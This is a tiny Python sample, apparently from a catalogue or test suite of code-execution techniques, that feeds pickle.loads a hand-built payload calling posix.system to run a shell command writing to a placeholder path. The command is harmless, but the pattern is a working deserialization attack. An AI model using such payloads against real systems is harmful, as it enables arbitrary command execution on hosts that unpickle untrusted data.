# technique: pickle calls what the data names
# goal: exec-command
# source: pickle documentation
import pickle
pickle.loads(b"cposix\nsystem\n(S'echo x > @OUT@/file'\ntR.")
